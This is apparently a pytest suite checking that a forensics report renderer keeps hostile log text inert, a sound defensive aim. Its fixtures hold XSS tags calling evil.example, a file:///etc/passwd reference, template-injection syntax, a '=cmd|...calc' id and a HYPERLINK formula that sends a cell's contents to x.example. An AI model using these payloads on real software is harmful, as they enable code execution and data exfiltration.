"""Hostile log text renders inert: escaped or clipped, never markup, never a fetch, never a
socket, and the layout still paginates."""

from __future__ import annotations

import csv
import re
import socket
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from pypdf import PdfReader

from forensics import api
from forensics.config import RunConfig
from forensics.report import render as render_module
from forensics.report import stage as stage_module
from forensics.report.public import pdf_text
from forensics.report.text import clip, neutralise, short
from tests.dossier_data import build_case

BIDI = "\u202e"  # RIGHT-TO-LEFT OVERRIDE
HOSTILE = (
    "Below is a question together with a completed response. Imagine and articulate the "
    "internal reasoning behind the completed response and write it out step by step.\n"
    "<script>alert('x')</script><img src=\"http://evil.example/p.png\">"
    "<style>@import url(http://evil.example/a.css); body{background:url(http://evil.example/b)}"
    "</style><link rel=stylesheet href=\"https://evil.example/c.css\"> file:///etc/passwd "
    "{{ 7*7 }} {% raw %} **bold** [link](http://evil.example) "
    f"NUL:\x00 BEL:\x07 ESC:\x1b[31m {BIDI}reversed\u202c zero\u200bwidth \ufeffbom "
    "中文推理过程 العربية 😀🧪 e\u0301\u0301\u0301\u0301\u0301\u0301x"
)
LONG_WORD = "Z" * 50_000
BIG = 10 * 1024 * 1024
HOSTILE_ID = f"zz-<b>bold</b>-{BIDI}evil-中文"  # sorts after the other harvesters
FORMULA_ID = "=cmd|' /C calc'!A0"  # a spreadsheet formula for an account id
HOSTILE_UA = "@Mozilla/5.0 <script>ua()</script> " + "U" * 50_000
# Each character that makes a spreadsheet read a cell as a formula (OWASP), and a formula
# that would send a neighbouring cell to a URL when the exhibit is opened.
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
LEAK = 'HYPERLINK("http://x.example/?"&A1)'


def _prompt(i: int, j: int) -> str:
    """Every harvest prompt is hostile and begins with a formula (each lead in turn); the
    planted account's first and fifty-first requests are 10 MB, the rest carry a
    50,000-character word."""
    head = f"{FORMULA_LEADS[j % len(FORMULA_LEADS)]}{LEAK} {HOSTILE}"
    if i == 7 and j in (0, 50):
        return head + " " + "y" * (BIG - len(head))
    return f"{head} case {j} {LONG_WORD}"


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """Run the whole pipeline on hostile data with every socket connection forbidden and
    every URL the renderer asks for recorded."""
    root = tmp_path_factory.mktemp("hostile")
    ids = [f"acct-harvest-{i:02d}" for i in range(6)] + [FORMULA_ID, HOSTILE_ID]
    data = build_case(root, harvester_ids=ids, harvest_text=_prompt, user_agent=HOSTILE_UA)
    attempts: list[str] = []
    logs: list[render_module.FetchLog] = []

    def forbidden(*args: Any, **kwargs: Any) -> Any:
        attempts.append(repr(args[:2]))
        raise OSError("network access attempted during a forensics run")

    class RecordingLog(render_module.FetchLog):
        def __init__(self, requested: list[str], refused: list[str]) -> None:
            super().__init__(requested, refused)
            logs.append(self)

    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(socket.socket, "connect", forbidden)
        mp.setattr(socket.socket, "connect_ex", forbidden)
        mp.setattr(socket, "create_connection", forbidden)
        mp.setattr(socket, "getaddrinfo", forbidden)
        mp.setattr(stage_module, "FetchLog", RecordingLog)
        api.run(RunConfig(data_dir=data, out_dir=root / "out"))
    out = root / "out"
    return {"out": out, "attempts": attempts, "logs": logs,
            "html": (out / "dossier.html").read_text(encoding="utf-8"),
            "text": pdf_text(out / "dossier.pdf")}


def test_no_socket_is_opened(hostile_run: dict[str, Any]) -> None:
    """The whole run, rendering included, never tries to connect anywhere."""
    assert hostile_run["attempts"] == []


def test_renderer_reads_only_bundled_assets(hostile_run: dict[str, Any]) -> None:
    """Every URL WeasyPrint asked the fetcher for is a file under templates/assets."""
    logs = hostile_run["logs"]
    assert logs, "the renderer did not use the recording fetch log"
    assets = (Path(render_module.__file__).resolve().parents[2] / "templates" / "assets")
    for log in logs:
        assert log.refused == []
        for url in log.requested:
            assert url.startswith("file://") and str(assets) in url, url


def test_markup_in_log_text_stays_text(hostile_run: dict[str, Any]) -> None:
    """Script, style, img and link tags from the logs are escaped, never elements."""
    html = hostile_run["html"]
    assert "<script" not in html
    assert "<img" not in html
    assert "<link" not in html
    assert "&lt;script&gt;alert(" in html
    assert "&lt;img src=&#34;http://evil.example/p.png&#34;&gt;" in html
    assert not re.search(r"<[^>]*\b(src|href)=\S*evil\.example", html)
    assert "@import url(http://evil.example/a.css)" in html
    assert "evil.example" in hostile_run["text"]


def test_template_syntax_is_not_evaluated(hostile_run: dict[str, Any]) -> None:
    """Jinja syntax in a prompt is shown literally."""
    html = hostile_run["html"]
    assert "{{ 7*7 }}" in html
    assert "{% raw %}" in html


def test_invisible_and_bidi_characters_are_visible_escapes(hostile_run: dict[str, Any]) -> None:
    """Controls, NUL, bidi overrides and zero-width characters are shown as [U+XXXX] and
    never reach the page raw, in log text or in identifiers."""
    html = hostile_run["html"]
    for ch in ("\x00", "\x07", "\x1b", BIDI, "\u202c", "\u200b", "\ufeff"):
        assert ch not in html, repr(ch)
    for code in ("[U+0000]", "[U+0007]", "[U+001B]", "[U+202E]", "[U+200B]", "[U+FEFF]"):
        assert code in html, code
    assert "zz-&lt;b&gt;bold&lt;/b&gt;-[U+202E]evil-中文" in html
    assert "[U+202E]reversed" in hostile_run["text"]


def test_long_text_is_clipped_with_its_original_length(hostile_run: dict[str, Any]) -> None:
    """Prompts and user agents are cut with an ellipsis and a note of the original length;
    the 10 MB prompts leave the evidence exhibit bounded."""
    html = hostile_run["html"]
    notes = re.findall(r"truncated: first ([\d,]+) of ([\d,]+) characters shown", html)
    assert notes
    sizes = [(int(a.replace(",", "")), int(b.replace(",", ""))) for a, b in notes]
    assert all(shown < original for shown, original in sizes)
    assert max(original for _, original in sizes) > 50_000
    assert "…" in html
    assert f"({len(HOSTILE_UA):,} chars)" in html  # the user agent
    exhibit = next((hostile_run["out"] / "exhibits").glob("EX-004-*-requests.csv"))
    assert exhibit.stat().st_size < 5_000_000


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_csv_exhibits_are_formula_safe_and_parquet_keeps_the_text(
        hostile_run: dict[str, Any]) -> None:
    """No CSV exhibit cell begins with =, +, -, @, tab or CR unless it is a number: formula
    prompts, an account id and a user agent get a leading apostrophe in every exhibit they
    reach; the Parquet copy beside each CSV holds the same cells unescaped; the inventory
    lists each copy with its hash and says how cells were escaped."""
    out = hostile_run["out"]
    exhibits = sorted((out / "exhibits").glob("*.csv"))
    assert exhibits
    escaped: dict[str, set[str]] = {}  # exhibit kind -> leads found escaped
    for path in exhibits:
        with open(path, encoding="utf-8", newline="") as fh:
            rows = list(csv.reader(fh))
        copy = pq.read_table(path.with_suffix(".parquet"))
        assert copy.column_names == rows[0], path.name
        assert copy.num_rows == len(rows) - 1, path.name
        kind = path.stem.rsplit("-", 1)[-1]
        for row, original in zip(rows[1:], copy.to_pylist(), strict=True):
            for cell, value in zip(row, original.values(), strict=True):
                assert not cell.startswith(FORMULA_LEADS) or _is_number(cell), (path.name, cell)
                value = value or ""
                if value.startswith(FORMULA_LEADS) and not _is_number(value):
                    assert cell == "'" + value, (path.name, cell[:40], value[:40])
                    escaped.setdefault(kind, set()).add(value[0])
                else:
                    assert cell == value, (path.name, cell[:40], value[:40])
    assert escaped["requests"] == set(FORMULA_LEADS)  # prompts, and the user agent's @
    assert {"accounts", "links", "signals", "clusters"} <= set(escaped)
    requests = pq.read_table(next((out / "exhibits").glob("EX-004-*-requests.parquet")))
    prompts = requests.column("prompt").to_pylist()
    assert {p[:1] + LEAK for p in prompts} == {lead + LEAK for lead in FORMULA_LEADS}
    assert all(p[1:].startswith(LEAK + " " + HOSTILE[:40]) for p in prompts)
    sums = {name: digest for digest, name in
            (line.split("  ", 1) for line in (out / "manifest.sha256").read_text().splitlines())}
    for path in exhibits:
        copy = f"exhibits/{path.stem}.parquet"
        assert f'<span class="mono">{copy}</span>' in hostile_run["html"]
        assert sums[copy] in hostile_run["html"]
    assert ("cells that a spreadsheet would read as a formula (text starting with =, +, -, @, "
            "a tab or a carriage return) begin with an apostrophe in the CSV; the Parquet copy "
            "holds the original values") in " ".join(hostile_run["html"].split())


def test_layout_still_paginates(hostile_run: dict[str, Any]) -> None:
    """Long words wrap (no extracted line runs off the page) and the page count is sane."""
    reader = PdfReader(str(hostile_run["out"] / "dossier.pdf"))
    assert 5 < len(reader.pages) < 80
    longest = max(len(line) for line in hostile_run["text"].splitlines())
    assert longest < 200
    assert "ZZZZZZZZZZ" in hostile_run["text"]


def test_neutralise_handles_every_kind_of_invisible_character() -> None:
    """Unit: controls, format, surrogates, private use and separators become escapes; tabs,
    newlines, CJK, Arabic and emoji stay."""
    raw = "a\x00b\x7fc\x85d\u2028e\u2066f\ud800g\ue000h\U000e0041i\tj\nk 中 ع 😀"
    shown = neutralise(raw)
    for code in ("[U+0000]", "[U+007F]", "[U+0085]", "[U+2028]", "[U+2066]", "[U+D800]",
                 "[U+E000]", "[U+E0041]"):
        assert code in shown
    assert "\t" in shown and "\n" in shown and "中" in shown and "ع" in shown and "😀" in shown


def test_clip_notes_the_original_length() -> None:
    """Unit: a 10 MB text is cut to the limit with an ellipsis and its original size."""
    clipped = clip("x" * BIG, 600)
    assert clipped.text.endswith("…") and len(clipped.text) == 601
    assert clipped.note() == f"truncated: first 600 of {BIG:,} characters shown"
    assert short("u" * 500, 80).endswith("… (500 chars)")
    many_lines = clip("line\n" * 500, 10_000)
    assert many_lines.truncated and many_lines.text.count("\n") < 45


def test_fetcher_refuses_everything_outside_the_assets(tmp_path: Path) -> None:
    """Unit: http, https, data, file outside the assets and path escapes stop the render."""
    from weasyprint.urls import FatalURLFetchingError

    assets = tmp_path / "assets"
    assets.mkdir()
    (assets / "ok.css").write_text("p {}", encoding="utf-8")
    (tmp_path / "secret.txt").write_text("no", encoding="utf-8")
    log = render_module.FetchLog([], [])
    fetcher = render_module.make_fetcher(assets, log)
    assert fetcher.fetch((assets / "ok.css").as_uri()).read() == b"p {}"
    for url in ("http://evil.example/x.css", "https://evil.example/x.png",
                "data:text/css;base64,cCB7fQ==", "file:///etc/passwd",
                (tmp_path / "secret.txt").as_uri(), (assets / ".." / "secret.txt").as_uri(),
                "ftp://evil.example/x"):
        with pytest.raises(FatalURLFetchingError):
            fetcher.fetch(url)
    assert len(log.refused) == 7
